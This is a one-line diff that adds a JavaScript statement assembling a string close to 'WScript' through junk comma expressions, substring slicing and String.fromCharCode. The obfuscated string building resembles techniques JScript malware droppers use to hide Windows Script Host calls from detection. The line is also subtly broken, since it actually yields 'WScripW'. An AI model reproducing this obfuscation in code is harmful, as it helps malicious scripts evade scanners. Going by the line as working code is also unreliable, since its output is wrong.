@@ -1,0 +1,1 @@
+x = ("junk",0x10,"WScr")+"ipt".substr(0, 3-1)+String.fromCharCode(80+7)
